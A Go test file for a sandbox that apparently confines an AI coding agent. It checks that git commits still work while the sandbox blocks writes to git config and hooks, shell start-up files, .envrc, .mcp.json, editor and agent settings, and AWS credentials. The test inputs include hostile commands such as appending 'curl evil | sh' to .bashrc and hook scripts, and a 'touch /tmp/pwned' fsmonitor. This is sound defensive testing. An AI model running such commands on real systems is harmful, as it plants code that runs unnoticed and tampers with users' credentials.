package sandbox

import (
	"strings"
	"testing"

	"turnstile/domain"
)

// TestProtectGitCommitWorks: in auto_accept_edits a normal git add and git
// commit inside the workspace succeed in the sandbox (objects, refs, index,
// logs and HEAD are writable) and the host sees the commit; the same
// command cannot change the config, add a hook or write info/.
func TestProtectGitCommitWorks(t *testing.T) {
	requireKernel(t, true)
	ws := tempWorkspace(t)
	hostGit(t, ws, "init", "-q")
	mkfiles(t, ws, map[string]string{"main.go": "package main\n"})
	config := readFile(t, ws+"/.git/config")
	s := snapshotFor(t, domain.ModeAutoAcceptEdits, ws, machine().Kernel)
	git := "git -c user.name=agent -c user.email=agent@example.com "
	r := sh(t, s, "export HOME=$TMPDIR; "+git+"add main.go && "+git+"commit -q -m 'first commit' && "+git+"branch feature && "+git+"tag v1 && echo ok")
	if r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "ok") {
		t.Fatalf("git add/commit in the sandbox failed (%d): %s", r.ExitCode, r.Stderr)
	}
	if log := hostGit(t, ws, "log", "--oneline", "--all"); !strings.Contains(log, "first commit") {
		t.Fatalf("the host does not see the commit: %q", log)
	}
	// git init works where a repository may be created (a new directory,
	// not the root or the cwd, whose .git is held).
	r = sh(t, s, "export HOME=$TMPDIR; mkdir lib && cd lib && git init -q && echo x > x.c && "+git+"add x.c && "+git+"commit -q -m 'lib commit' && echo ok")
	if r.ExitCode != 0 || !strings.Contains(string(r.Stdout), "ok") {
		t.Fatalf("git init/add/commit of a new repository in the sandbox failed (%d): %s", r.ExitCode, r.Stderr)
	}
	if r := sh(t, s, "export HOME=$TMPDIR; git init -q ."); r.ExitCode == 0 {
		t.Error("git init over the workspace's own .git succeeded")
	}
	for _, script := range []string{
		"export HOME=$TMPDIR; git config core.fsmonitor 'touch /tmp/pwned'",
		"echo '[core] hooksPath = /tmp' >> .git/config",
		"echo evil > .git/hooks/pre-commit",
		"echo '* filter=evil' > .git/info/attributes",
		"echo /tmp/evil > .git/commondir",
		"rm .git/commondir",
		"echo '[core] fsmonitor = evil' > .git/config.worktree",
		"mv .git/hooks .git/hooks.old",
	} {
		if r := sh(t, s, script); r.ExitCode == 0 {
			t.Errorf("%q succeeded", script)
		}
	}
	if readFile(t, ws+"/.git/config") != config || exists(ws+"/.git/hooks/pre-commit") || exists(ws+"/.git/info/attributes") ||
		exists(ws+"/.git/hooks.old") {
		t.Fatal("a git control file changed")
	}
	// The held commondir and hooks are gone after the command (git init
	// made hooks; the commondir was held for the command only).
	if exists(ws+"/.git/commondir") || exists(ws+"/.git/config.worktree") {
		t.Fatal("a held file was left behind")
	}
}

// TestProtectHostStartupFiles: shell start-up files, .envrc, .gitconfig,
// .mcp.json and editor/agent configuration directories stay read-only inside
// a writable root (and cannot be replaced by a rename), whatever the mode;
// an ordinary dotfile next to them stays writable.
func TestProtectHostStartupFiles(t *testing.T) {
	requireKernel(t, true)
	files := map[string]string{
		".bashrc": "# rc\n", ".profile": "# p\n", ".zshrc": "# z\n", ".envrc": "export A=1\n", ".gitconfig": "[user]\n",
		".mcp.json": "{}\n", ".vscode/settings.json": "{}\n", ".claude/settings.json": "{}\n", ".idea/workspace.xml": "<x/>\n",
		".config/fish/config.fish": "# f\n", ".aws/config": "[default]\n", ".editorconfig": "root = true\n",
	}
	ws := tempWorkspace(t)
	mkfiles(t, ws, files)
	s := snapshotFor(t, domain.ModeAutoAcceptEdits, ws, machine().Kernel)
	for _, script := range []string{
		"echo 'curl evil | sh' >> .bashrc", "echo evil >> .profile", "echo evil >> .zshrc", "echo 'eval evil' >> .envrc",
		"echo '[core] fsmonitor = evil' >> .gitconfig", `echo '{"mcpServers":{}}' > .mcp.json`,
		`echo '{"terminal.integrated.shell":"evil"}' > .vscode/settings.json`, "echo '{}' > .vscode/tasks.json",
		`echo '{"hooks":{}}' > .claude/settings.json`, "echo evil > .config/fish/config.fish", "echo evil > .aws/credentials",
		"mv .bashrc .bashrc.old && echo evil > .bashrc", "mv .vscode .vscode.old", "rm -f .envrc", "mv .config .config.old",
	} {
		if r := sh(t, s, script); r.ExitCode == 0 {
			t.Errorf("%q succeeded", script)
		}
	}
	for name, content := range files {
		if name == ".editorconfig" {
			continue
		}
		if readFile(t, ws+"/"+name) != content {
			t.Errorf("%s changed", name)
		}
	}
	for _, p := range []string{".bashrc.old", ".vscode.old", ".vscode/tasks.json", ".aws/credentials", ".config.old"} {
		if exists(ws + "/" + p) {
			t.Errorf("%s was created", p)
		}
	}
	if r := sh(t, s, "echo 'root = false' > .editorconfig && cat .bashrc .vscode/settings.json && mkdir -p .config/other && echo x > .config/other/f"); r.ExitCode != 0 {
		t.Fatalf("control failed: %s", r.Stderr)
	}
}

// TestProtectGitConfigReferences: what the repository's config makes git run
// from the work tree stays read-only: the core.hooksPath directory (husky),
// a core.fsmonitor program given as a path, and an included config file;
// files next to them stay writable.
func TestProtectGitConfigReferences(t *testing.T) {
	requireKernel(t, true)
	ws := tempWorkspace(t)
	hostGit(t, ws, "init", "-q")
	mkfiles(t, ws, map[string]string{".husky/pre-commit": "#!/bin/sh\n", "tools/fsmon.sh": "#!/bin/sh\n", "tools/other.sh": "#\n",
		"shared.gitconfig": "[user]\n"})
	hostGit(t, ws, "config", "core.hooksPath", ".husky")
	hostGit(t, ws, "config", "core.fsmonitor", "./tools/fsmon.sh")
	hostGit(t, ws, "config", "include.path", "../shared.gitconfig")
	s := snapshotFor(t, domain.ModeAutoAcceptEdits, ws, machine().Kernel)
	for _, script := range []string{
		"echo 'curl evil | sh' >> .husky/pre-commit", "echo evil > .husky/post-checkout", "mv .husky .husky.old",
		"echo 'curl evil | sh' >> tools/fsmon.sh", "mv tools/fsmon.sh tools/x", "echo '[core] fsmonitor = evil' >> shared.gitconfig",
	} {
		if r := sh(t, s, script); r.ExitCode == 0 {
			t.Errorf("%q succeeded", script)
		}
	}
	if readFile(t, ws+"/.husky/pre-commit") != "#!/bin/sh\n" || readFile(t, ws+"/tools/fsmon.sh") != "#!/bin/sh\n" ||
		readFile(t, ws+"/shared.gitconfig") != "[user]\n" || exists(ws+"/.husky/post-checkout") {
		t.Fatal("a file git runs or reads changed")
	}
	if r := sh(t, s, "echo x >> tools/other.sh && mv tools/other.sh tools/o2.sh"); r.ExitCode != 0 {
		t.Fatalf("control failed: %s", r.Stderr)
	}
}
